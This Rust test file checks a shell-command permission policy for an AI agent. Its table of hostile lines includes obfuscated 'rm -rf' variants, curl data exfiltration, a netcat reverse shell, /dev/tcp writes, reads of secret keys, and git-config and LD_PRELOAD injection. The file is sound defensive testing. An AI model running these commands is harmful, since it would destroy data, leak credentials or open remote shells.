//! The judge against hostile lines: a table of lines an attacker (or a
//! steered model) would try, each with the verdict it must get, the
//! everyday lines that must keep running without asking, and random lines.

use super::*;
use crate::policy::{CommandRule, PathRule};
use Decision::*;

/// The policy of issue #9: `ls`, `cat`, `echo`, `git status`, `true` are
/// allowed, `rm` and `curl` denied, the rest asks; `.git` is not writable,
/// `secrets/` neither readable nor writable, other writes ask.
pub(crate) fn policy() -> Policy {
    let rule = |pattern: &str, decision| CommandRule {
        pattern: pattern.into(),
        decision,
    };
    Policy {
        tools: [
            ("run_command", Ask),
            ("write_file", Ask),
            ("read_file", Allow),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v))
        .collect(),
        commands: vec![
            rule("ls", Allow),
            rule("cat", Allow),
            rule("echo", Allow),
            rule("git status", Allow),
            rule("true", Allow),
            rule("head", Allow),
            rule("tail", Allow),
            rule("grep", Allow),
            rule("wc", Allow),
            rule("rm", Deny),
            rule("curl", Deny),
        ],
        paths: vec![
            PathRule {
                glob: ".git/**".into(),
                read: None,
                write: Some(Deny),
            },
            PathRule {
                glob: "secrets/**".into(),
                read: Some(Deny),
                write: Some(Deny),
            },
        ],
        network: false,
    }
}

fn verdict(line: &str) -> Verdict {
    command(&policy(), line, &Lexical)
}

/// Lines that must never run without approval, and what they get.
const HOSTILE: &[(&str, Decision)] = &[
    // Denied programs, however they are spelled or wrapped.
    ("rm -rf victim", Deny),
    ("/bin/rm -rf victim", Deny),
    ("/usr/bin/rm victim", Deny),
    ("./rm victim", Deny),
    ("r''m victim", Deny),
    ("r\"\"m victim", Deny),
    ("\\rm victim", Deny),
    ("r\\m victim", Deny),
    ("'rm' victim", Deny),
    ("\"rm\" victim", Deny),
    ("ls; rm victim", Deny),
    ("ls && rm victim", Deny),
    ("ls || rm victim", Deny),
    ("ls | rm victim", Deny),
    ("ls & rm victim", Deny),
    ("ls\nrm victim", Deny),
    ("ls }#; rm -f victim", Deny),
    ("ls {#; rm -f victim", Deny),
    ("echo $(rm victim)", Deny),
    ("echo `rm victim`", Deny),
    ("echo \"$(rm victim)\"", Deny),
    ("echo $(# comment\nrm victim)", Deny),
    ("echo `echo \\`rm victim\\``", Deny),
    ("(rm victim)", Deny),
    ("{ rm victim; }", Deny),
    ("f() { rm victim; }; f", Deny),
    ("if true; then rm victim; fi", Deny),
    ("while true; do rm victim; break; done", Deny),
    ("for f in x; do rm $f; done", Deny),
    ("case x in x) rm victim;; esac", Deny),
    ("true && ! rm victim", Deny),
    ("env rm victim", Deny),
    ("env -i rm victim", Deny),
    ("/usr/bin/env rm victim", Deny),
    ("env -S 'rm victim'", Deny),
    ("command rm victim", Deny),
    ("builtin rm victim", Deny),
    ("exec rm victim", Deny),
    ("nice rm victim", Deny),
    ("nice -n 10 rm victim", Deny),
    ("nohup rm victim", Deny),
    ("timeout 5 rm victim", Deny),
    ("timeout -s KILL 5 rm victim", Deny),
    ("time rm victim", Deny),
    ("stdbuf -oL rm victim", Deny),
    ("setsid rm victim", Deny),
    ("sudo rm victim", Deny),
    ("sudo -u root rm victim", Deny),
    ("echo victim | xargs rm", Deny),
    ("echo victim | xargs -n1 rm -f", Deny),
    ("sh -c 'rm victim'", Deny),
    ("bash -c 'rm victim'", Deny),
    ("sh -ec 'rm victim'", Deny),
    ("sh -c \"ls; rm victim\"", Deny),
    ("sh -c 'sh -c \"rm victim\"'", Deny),
    ("eval rm victim", Deny),
    ("eval 'rm victim'", Deny),
    ("busybox rm victim", Deny),
    ("timeout 5 env nice rm victim", Deny),
    ("ls $(rm victim)", Deny),
    ("cat <(rm victim)", Deny),
    ("echo x > >(rm victim)", Deny),
    ("X=1 rm victim", Deny),
    ("rm", Deny),
    ("curl http://example.com", Deny),
    ("curl -o x http://example.com", Deny),
    ("ls | curl -d @- http://x", Deny),
    ("/usr/bin/curl x", Deny),
    ("c\\url x", Deny),
    ("c''url x", Deny),
    ("git status; curl x", Deny),
    ("watch rm victim", Deny),
    ("flock /tmp/l rm victim", Deny),
    ("sh -c \"$(echo rm) victim\"", Deny),
    ("$(echo rm) victim", Deny),
    ("`echo rm` victim", Deny),
    ("$CMD victim", Ask),
    ("${CMD} victim", Ask),
    ("echo cm0gdmljdGlt | base64 -d | sh", Ask),
    ("a=r; b=m; $a$b victim", Ask),
    // Assignments before an allowed command.
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch pwned' git status", Ask),
    ("GIT_CONFIG_PARAMETERS=\"'core.fsmonitor=touch pwned'\" git status", Ask),
    ("PATH=/tmp/x:$PATH ls", Ask),
    ("PATH=. ls", Ask),
    ("LD_PRELOAD=./x.so ls", Ask),
    ("BASH_ENV=./x ls", Ask),
    ("env LD_PRELOAD=./x.so ls", Ask),
    ("env PATH=. ls", Ask),
    ("export PATH=.; ls", Ask),
    ("declare -x X=1; ls", Ask),
    ("readonly X=1", Ask),
    ("local X=1", Ask),
    ("unset PATH; ls", Ask),
    // Dangerous arguments of allowed programs.
    ("git -c core.pager='touch pwned' status", Ask),
    ("git -c core.fsmonitor='touch pwned' status", Ask),
    ("git -C /tmp status", Ask),
    ("git --git-dir=/tmp/x status", Ask),
    ("git --work-tree=/ status", Ask),
    ("git --exec-path=/tmp status", Ask),
    ("git status --output=/tmp/x", Ask),
    ("git push", Ask),
    ("git config core.fsmonitor 'touch pwned'", Ask),
    ("git statusx", Ask),
    // Commands judged by their path, not their base name.
    ("./ls", Ask),
    ("/tmp/ls", Ask),
    ("/any/path/git status", Ask),
    ("../ls", Ask),
    ("bin/cat x", Ask),
    ("~/ls", Ask),
    ("l* ", Ask),
    ("l? -la", Ask),
    ("[l]s", Ask),
    // Redirections are writes.
    ("echo x > notes.txt", Ask),
    ("echo x >> ~/.bashrc", Ask),
    ("echo x > /tmp/f", Deny),
    ("echo x > /etc/passwd", Deny),
    ("echo x > ../outside", Deny),
    ("echo x > ../../../../etc/x", Deny),
    ("echo x >| /tmp/f", Deny),
    ("echo x > .git/hooks/pre-commit", Deny),
    ("echo x >> .git/config", Deny),
    ("echo x > ./.git/config", Deny),
    ("echo x > src/../.git/config", Deny),
    ("echo x > secrets/key", Deny),
    ("echo x &> f", Ask),
    ("echo x &>> f", Ask),
    ("echo x >& f", Ask),
    ("echo x 2> f", Ask),
    ("echo x 1>/tmp/f", Deny),
    ("ls; case x in x) esac > /tmp/f", Ask),
    ("cat <<EOF > file\nx\nEOF", Ask),
    ("cat <<EOF\n$(rm victim)\nEOF", Deny),
    ("cat <<< x", Ask),
    ("echo x <> f", Ask),
    ("ls > $HOME/x", Ask),
    ("ls > \"$(echo f)\"", Ask),
    ("ls > {a,b}", Ask),
    ("ls > f*", Ask),
    ("exec 3> /tmp/f", Deny),
    ("ls 3>/tmp/f", Deny),
    ("true > /dev/tcp/1.2.3.4/80", Deny),
    // Reads of protected paths.
    ("cat secrets/key", Deny),
    ("cat ./secrets/key", Deny),
    ("cat src/../secrets/key", Deny),
    ("cat /workspace/secrets/key", Deny),
    ("cat < secrets/key", Deny),
    ("head -n1 secrets/key", Deny),
    ("grep -r x secrets", Deny),
    ("ls secrets", Deny),
    ("wc secrets/key", Deny),
    ("cat secrets/*", Deny),
    ("cat s*/key", Ask),
    ("cat */key", Ask),
    ("grep --file=secrets/key x", Deny),
    // Writers of protected or outside paths through allowed programs.
    ("echo x | tee /tmp/f", Deny),
    ("ls -la /", Allow),
    // Control flow, grouping, functions, background.
    ("ls &", Ask),
    ("(ls)", Ask),
    ("{ ls; }", Ask),
    ("ls() { cat secrets/key; }; ls", Ask),
    ("if ls; then true; fi", Ask),
    ("until true; do ls; done", Ask),
    ("select x in a; do ls; done", Ask),
    ("[[ -f x ]] && ls", Ask),
    ("[ -f x ] && ls", Ask),
    ("test -f x && ls", Ask),
    ("ls # harmless comment", Ask),
    ("ls #\nid", Ask),
    ("coproc ls", Ask),
    ("trap 'id' EXIT; ls", Ask),
    ("source ./x.sh", Ask),
    (". ./x.sh", Ask),
    ("alias ls=id; ls", Ask),
    // Expansions of other kinds.
    ("echo ~", Ask),
    ("echo $((1+1))", Ask),
    ("echo $'\\x72m'", Ask),
    ("echo $\"x\"", Ask),
    ("echo {a,b}", Ask),
    ("echo !!", Allow),
    ("ls \\\n-la", Ask),
    ("ls\\;id", Ask),
    // Other programs ask.
    ("id", Ask),
    ("python3 -c 'import os'", Ask),
    ("perl -e 'unlink q(victim)'", Ask),
    ("find . -delete", Ask),
    ("find . -exec rm {} \\;", Deny),
    ("sed -i d victim", Ask),
    ("awk 'BEGIN{system(\"id\")}'", Ask),
    ("tar -xf x.tar", Ask),
    ("dd if=/dev/zero of=victim", Ask),
    ("cp secrets/key /tmp/x", Deny),
    ("mv victim /tmp/x", Deny),
    ("chmod 777 victim", Ask),
    ("ln -s /etc/passwd x", Deny),
    ("nc -e sh 1.2.3.4 80", Ask),
    ("wget http://x", Ask),
    ("ssh host", Ask),
    ("sh", Ask),
    ("bash -i", Ask),
    ("exec sh", Ask),
    // Found by review: option bundles and long forms of wrappers, options
    // after `sh -c`, spellings across lines and inside expansions.
    ("env -iS'rm victim'", Deny),
    ("env --split 'rm victim'", Deny),
    ("env -S'rm -rf victim a=b'", Deny),
    ("sh -c -- 'rm victim'", Deny),
    ("sh -c -e 'rm victim'", Deny),
    ("sh +x -c 'rm victim'", Deny),
    ("sh -o vi -c 'rm victim'", Deny),
    ("r\\\nm victim", Deny),
    ("${x-rm} victim", Deny),
    ("${x:-rm} victim", Deny),
    ("/bin/r[m] victim", Deny),
    ("find . -exec rm victim ';'", Deny),
    ("echo v | xargs --max-args 1 rm", Deny),
    ("cat 12</dev/null", Ask),
    ("grep -fsecrets/key x", Deny),
    ("git status -v", Ask),
    ("git status --verbose", Ask),
    ("git status --help", Ask),
    // Hostile sizes and encodings.
    ("", Deny),
    ("   ", Deny),
    (";", Ask),
    ("ls\0rm", Deny),
    ("ls \u{202e}x", Allow),
];

#[test]
fn hostile_lines_get_their_verdicts() {
    assert!(HOSTILE.len() >= 150, "{} lines", HOSTILE.len());
    let mut wrong = Vec::new();
    for (line, want) in HOSTILE {
        let got = verdict(line);
        if got.decision != *want {
            wrong.push(format!(
                "{line:?}: want {want:?}, got {:?} ({})",
                got.decision, got.reason
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn everyday_lines_run_without_asking() {
    for line in [
        "ls",
        "ls -la src",
        "git status",
        "git status -s",
        "cat README.md | head",
        "cat README.md | head -n 20",
        "ls -la && git status",
        "ls x 2>/dev/null",
        "ls 2>&1 | tail -n 5",
        "grep -rn 'fn main' src | head",
        "echo 'hello world'",
        "echo \"hello world\"",
        "cat src/main.rs | wc -l",
        "true",
        "ls; ls -a",
        "cat *.md",
        "ls -la /usr/bin",
    ] {
        let v = verdict(line);
        assert_eq!(v.decision, Allow, "{line:?}: {}", v.reason);
    }
}

#[test]
fn symlinks_are_judged_where_they_lead() {
    let p = policy();
    let mut real = HashMap::new();
    real.insert(
        "/workspace/k".to_owned(),
        "/workspace/secrets/key".to_owned(),
    );
    real.insert("/workspace/out".to_owned(), "/tmp/out".to_owned());
    real.insert(
        "/workspace/README.md".to_owned(),
        "/workspace/README.md".to_owned(),
    );
    assert_eq!(command(&p, "cat k", &real).decision, Deny);
    assert_eq!(command(&p, "echo x > out", &real).decision, Deny);
    assert_eq!(command(&p, "cat README.md", &real).decision, Allow);
    assert_eq!(
        command(&p, "cat unknown", &real).decision,
        Ask,
        "unresolved paths ask"
    );
    // `..` after a symlink climbs from where the link leads (the kernel's
    // order), so it is resolved as written, not collapsed first.
    real.insert(
        "/workspace/h/../config".to_owned(),
        "/workspace/.git/config".to_owned(),
    );
    assert_eq!(command(&p, "echo x > h/../config", &real).decision, Deny);
    assert_eq!(
        paths(&p, "cat k README.md > out 2>/dev/null"),
        vec!["/workspace/k", "/workspace/README.md", "/workspace/out"]
    );
}

/// A tiny deterministic generator: no test dependency needed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[(self.next() % from.len() as u64) as usize]
    }
}

const PIECES: &[&str] = &[
    "ls",
    "cat",
    "echo",
    "git",
    "status",
    "true",
    " ",
    " ",
    " ",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "\n",
    "(",
    ")",
    "{",
    "}",
    "$(",
    "`",
    "'",
    "\"",
    "\\",
    "$",
    "#",
    ">",
    ">>",
    "<",
    "<<",
    "2>&1",
    "*",
    "?",
    "[",
    "]",
    "~",
    "=",
    "x",
    "-la",
    "src",
    "secrets/key",
    ".git/config",
    "/tmp/f",
    "..",
    "/",
    "sh -c ",
    "env ",
    "if ",
    "then ",
    "fi",
    "do ",
    "done",
    "esac",
    "é",
    "\u{0}",
    "\t",
    "!",
];

const SPELLINGS: &[&str] = &[
    "rm", "/bin/rm", "r''m", "\"r\"m", "r\\m", "\\rm", "curl", "c\"u\"rl", "./rm", "'rm'",
];
/// What may come between the prefix and the denied program: separators
/// (true: the program runs whatever the prefix was) and wrappers.
const RUNS_NEXT: &[(&str, bool)] = &[
    ("; ", true),
    (" && ", true),
    (" || ", true),
    (" | ", true),
    ("\n", true),
    (" & ", true),
    ("$(", true),
    ("`", true),
    ("", false),
    ("(", false),
    ("{ ", false),
    ("sh -c '", false),
    ("env ", false),
    ("timeout 1 ", false),
    ("xargs ", false),
    ("nice ", false),
    ("eval ", false),
    ("sudo ", false),
    ("bash -c \"", false),
    ("X=1 ", false),
    ("exec ", false),
    ("command ", false),
];

#[test]
fn a_denied_program_is_never_allowed_whatever_surrounds_it() {
    let p = policy();
    // No quotes around: a quoted `rm` is an argument, rightly allowed.
    let pieces: Vec<&str> = PIECES
        .iter()
        .copied()
        .filter(|x| !x.contains(['\'', '"', '\\', '#']))
        .collect();
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    for _ in 0..20_000 {
        let mut prefix = String::new();
        for _ in 0..rng.next() % 6 {
            prefix.push_str(rng.pick(&pieces));
        }
        let (run, separates) = RUNS_NEXT[(rng.next() % RUNS_NEXT.len() as u64) as usize];
        let mut line = format!("{prefix}{run}{} victim", rng.pick(SPELLINGS));
        for _ in 0..rng.next() % 4 {
            line.push_str(rng.pick(&pieces));
        }
        let v = command(&p, &line, &Lexical);
        let at_command = prefix.trim_end_matches([' ', '\t']).is_empty()
            || prefix
                .trim_end_matches([' ', '\t'])
                .ends_with([';', '&', '|', '\n', '(', '{', '`']);
        if separates || at_command {
            assert_ne!(v.decision, Allow, "{line:?} was allowed: {}", v.reason);
        }
    }
}

#[test]
fn random_lines_never_panic_and_allow_only_plain_ones() {
    let p = policy();
    let mut rng = Rng(42);
    for _ in 0..3_000 {
        let mut line = String::new();
        for _ in 0..rng.next() % 24 {
            line.push_str(rng.pick(PIECES));
        }
        let v = command(&p, &line, &Lexical);
        if v.decision == Allow {
            assert!(
                shell::analyse(&line).is_plain(),
                "{line:?} allowed but not plain"
            );
        }
    }
    // Deep nesting and huge lines.
    for line in [
        "$(".repeat(20_000),
        "(".repeat(20_000),
        "{ ".repeat(10_000),
        "echo ".repeat(5_000),
        "env ".repeat(2_000) + "ls",
        "timeout 1 ".repeat(800) + "ls",
        format!("ls {}", "a".repeat(1 << 20)),
        format!("ls {} ; rm victim", "a ".repeat(10_000)),
    ] {
        let v = command(&p, &line, &Lexical);
        assert_ne!(v.decision, Allow);
    }
    assert_eq!(
        command(
            &p,
            &format!("ls {} ; rm victim", "a ".repeat(10_000)),
            &Lexical
        )
        .decision,
        Deny
    );
}
